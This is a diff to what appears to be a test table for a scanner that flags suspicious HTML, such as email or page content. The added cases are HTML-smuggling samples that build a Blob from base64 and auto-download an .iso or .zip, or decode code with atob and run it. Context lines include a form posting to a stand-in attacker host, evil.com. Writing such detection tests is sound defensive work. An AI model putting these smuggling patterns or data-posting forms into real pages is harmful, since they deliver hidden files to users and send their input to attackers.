@@ -201,7 +201,18 @@ const WAYS: Cases = {
     link('data:image/png;base64,iVBORw0KGgo=') + link('javascript:void(0)'),
   ],
   'a form': ['<form action="http://evil.com/"><input name=x></form>', 'form(evil.com)'],
+  'a script that makes a file': [
+    '<script>var b=new Blob([atob("TVo=")]);a.href=URL.createObjectURL(b);a.download="x.iso"</script>',
+    'made_file(script)',
+  ],
+  'the same for older browsers': [
+    '<body onload="navigator.msSaveBlob(new Blob([new Uint8Array(d)]),\'x.zip\')">',
+    'made_file(script)',
+  ],
   'a field for a password': ['<INPUT Type=PassWord>', 'password(field)'],
+  'a script that saves a picture, or reads code': [
+    '<script>a.download="x";a.click()</script><script>f(atob("eA=="))</script>',
+  ],
   'a form of the author': ['<form action="https://www.author.com/"></form>'],
   'a short address': [link('https://bit.ly/x'), 'shortener(bit.ly)'],
 };
